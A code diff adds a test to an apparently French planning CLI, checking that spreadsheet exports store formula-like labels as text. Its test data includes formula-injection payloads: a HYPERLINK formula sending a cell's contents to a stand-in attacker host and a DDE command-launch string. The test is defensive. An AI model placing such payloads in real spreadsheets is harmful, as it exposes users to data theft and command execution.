@@ -292,3 +292,42 @@ def test_import_into_an_empty_measurements_file(project, tmp_path):
     no_traceback(result)
     assert result.code == 0, result.output
     assert run_pst("check", project).code == 0
+
+
+# Export ---------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "'=déjà cité", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
+def test_formula_looking_labels_are_exported_as_text_and_read_back_identical(project, tmp_path, suffix):
+    axis = project / "plan" / "axes" / "1-lieu-ressource.yaml"
+    import yaml
+
+    data = yaml.safe_load(axis.read_text(encoding="utf-8"))
+    labels = iter(FORMULAS)
+    for general in data["general_objectives"]:
+        for operational in general.get("operational_objectives", []):
+            for indicator in operational.get("indicators", []):
+                indicator["label"] = next(labels, indicator["label"])
+    axis.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=4096), encoding="utf-8")
+    assert run_pst("check", project).code == 0
+    sheet = exported(project, tmp_path, suffix)
+
+    from pst_cli.monitoring.spreadsheet import read_rows
+
+    if suffix == "xlsx":
+        from openpyxl import load_workbook
+
+        cells = [row[1] for row in load_workbook(sheet).active.iter_rows(min_row=2)]
+        assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
+        assert not [cell for cell in cells if cell.data_type == "f"]
+    else:
+        raw = [line.split(";")[1] for line in sheet.read_text(encoding="utf-8-sig").splitlines()[1:]]
+        assert not [cell for cell in raw if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
+    _, rows = read_rows(sheet)
+    assert [row[1] for row in rows[1 : 1 + len(FORMULAS)]] == FORMULAS  # byte for byte
+    measurements = project / "evaluation" / "measurements.yaml"
+    before = measurements.read_bytes()
+    assert run_pst("import", "measurements", sheet, project).code == 0
+    assert measurements.read_bytes() == before
